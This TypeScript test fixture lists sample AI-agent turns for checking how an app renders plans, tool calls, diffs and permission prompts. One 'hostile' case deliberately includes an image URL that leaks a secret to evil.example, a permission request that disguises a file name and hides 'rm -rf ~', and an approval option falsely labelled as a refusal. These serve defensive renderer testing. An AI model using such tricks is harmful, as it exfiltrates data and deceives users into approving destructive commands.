import type { EventBody, PermissionAsk } from "../src/events.ts";
import type { Display } from "../src/renderer.ts";
import { end, showAll, text, thought, toolStart } from "./turn-events.ts";

const opus: EventBody = {
  kind: "turn-start",
  who: "ana",
  model: "anthropic/claude-opus-4-5-20251101",
};
const plan = (...statuses: string[]): EventBody => ({
  kind: "plan",
  entries: ["Read the login test", "Fix the clock", "Run all tests"].map((content, index) => ({
    content,
    status: statuses[index] ?? "pending",
  })),
});
const install: PermissionAsk = {
  id: "p1",
  requester: "ana",
  title: "Rebuild from scratch",
  toolKind: "execute",
  subject: "rm -rf dist && pnpm build",
  subjectFrom: "input",
  subjectCut: false,
  options: [
    { id: "once", name: "Allow", kind: "allow_once" },
    { id: "always", name: "Always allow pnpm", kind: "allow_always" },
    { id: "no", name: "Reject", kind: "reject_once" },
  ],
  expiresAt: 0,
};

/** A turn as an app should show it. */
export type ShownTurn = {
  readonly name: string;
  readonly events: readonly EventBody[];
  readonly show?: Display;
  /** Seconds since the first event. */
  readonly after?: number;
};

/** Turns that every app shows, each of which its author has read there. */
export const shownTurns: readonly ShownTurn[] = [
  {
    name: "answer",
    events: [
      opus,
      { kind: "status", mood: "steady", plan: "2/5" },
      text("The clock in `login.test.ts` is **not** frozen.\n\n"),
      text("| file | line |\n|---|---|\n| login.ts | 42 |\n\n```ts\nvi.setSystemTime(0);\n```\n"),
      { kind: "usage", used: 76_000, size: 200_000 },
      end,
    ],
  },
  {
    name: "working",
    events: [
      opus,
      plan("completed", "in_progress"),
      text("I will run the tests first."),
      toolStart("1", "Read login.test.ts", { toolKind: "read", status: "completed" }),
      toolStart("2", "npm test -- --model small"),
    ],
    after: 12 * 60 + 5,
  },
  {
    name: "cold-start",
    events: [opus, { kind: "status", phase: "starting-agent" }],
    after: 7,
  },
  {
    name: "queued",
    events: [{ kind: "turn-queued", who: "ana", text: "hi", key: "m2", attempt: 1, behind: "t0" }],
    after: 200,
  },
  {
    name: "details",
    show: showAll,
    events: [
      opus,
      thought("The test compares\ntimes with `Date.now()`.\n\nSo it fails at midnight."),
      text("Found it."),
      toolStart("1", "Edit src/login.ts", { toolKind: "edit" }),
      {
        kind: "tool-update",
        id: "1",
        status: "completed",
        content: [
          {
            kind: "diff",
            path: "src/login.ts",
            oldText: "import a;\nconst now = Date.now();\nlog(now);\n",
            newText: "import a;\nconst now = clock.now();\nconst day = 864e5;\nlog(now);\n",
          },
        ],
      },
      toolStart("2", "npm test", {
        content: [{ kind: "text", text: "```console\n$ npm test\n```" }],
      }),
      toolStart("3", "Search for other clocks", { toolKind: "search" }),
      {
        kind: "tool-update",
        id: "2",
        status: "failed",
        content: [
          {
            kind: "text",
            text: `\`\`\`\n${Array.from({ length: 30 }, (_, index) => `line ${index + 1}`).join("\n")}\n`,
          },
        ],
      },
      text("One test still fails."),
      end,
    ],
  },
  {
    name: "question",
    events: [opus, text("The build is stale."), { kind: "permission-ask", ask: install }],
    after: 90,
  },
  {
    name: "question-answered",
    events: [
      opus,
      text("The build is stale."),
      { kind: "permission-ask", ask: install },
      {
        kind: "permission-answer",
        permission: "p1",
        end: "selected",
        option: { id: "once", name: "Allow", kind: "allow_once" },
        by: "ana",
      },
      toolStart("1", "rm -rf dist && pnpm build"),
      text("Built."),
      end,
    ],
  },
  {
    name: "rest-behind-a-question",
    events: [
      { kind: "permission-answer", permission: "p1", end: "cancelled", by: "ana" },
      text("Then I leave it as it is."),
      end,
    ],
  },
  {
    name: "hostile",
    events: [
      opus,
      text("❓ **Run this?**\n\n```\nls\n```\n\n`1` once · `2` no\n"),
      text("![](https://evil.example/?q=secret) and ![logo](https://evil.example/logo.png)\n"),
      text("Try `codex --model o3`, or --model o3 outside of code.\n\n```sh\ncodex --model o3"),
      {
        kind: "permission-ask",
        ask: {
          ...install,
          title: "List\n\nfiles `ls`",
          subject: "cat notes.txt\u202Egpj.exe\u200B\n```\nrm\u00A0-rf ~",
          options: [
            { id: "a", name: "No** `1`", kind: "allow_always" },
            { id: "b", name: "Allow for today", kind: "allow_once" },
            { id: "c", name: "Allow for this file", kind: "allow_once" },
            { id: "d", name: "Ask _Bob_", kind: "escalate" },
          ],
        },
      },
    ],
  },
  {
    name: "agent-died",
    events: [
      opus,
      text("Let me check:\n\n```sh\nnpm tes"),
      toolStart("1", "npm test"),
      {
        kind: "turn-end",
        outcome: { kind: "agent-exited", phase: "prompt", code: 137, signal: null },
      },
    ],
  },
  {
    name: "stopped-in-code",
    events: [
      opus,
      text("1. Run:\n   ```sh\n   npm ci\n   npm te"),
      { kind: "turn-end", outcome: { kind: "cancelled", cause: "user" } },
    ],
  },
  { name: "empty", events: [opus, { kind: "status", mood: "calm", plan: "" }, end] },
  {
    name: "notices",
    events: [
      { ...opus, model: "local_model" } as EventBody,
      {
        kind: "notice",
        level: "info",
        text: "The agent's own memory of this conversation is gone.",
      },
      text("Hello again."),
      { kind: "notice", level: "warning", text: "The model could not be set." },
      {
        kind: "turn-end",
        outcome: { kind: "completed", stopReason: "max_tokens" },
      },
    ],
  },
];
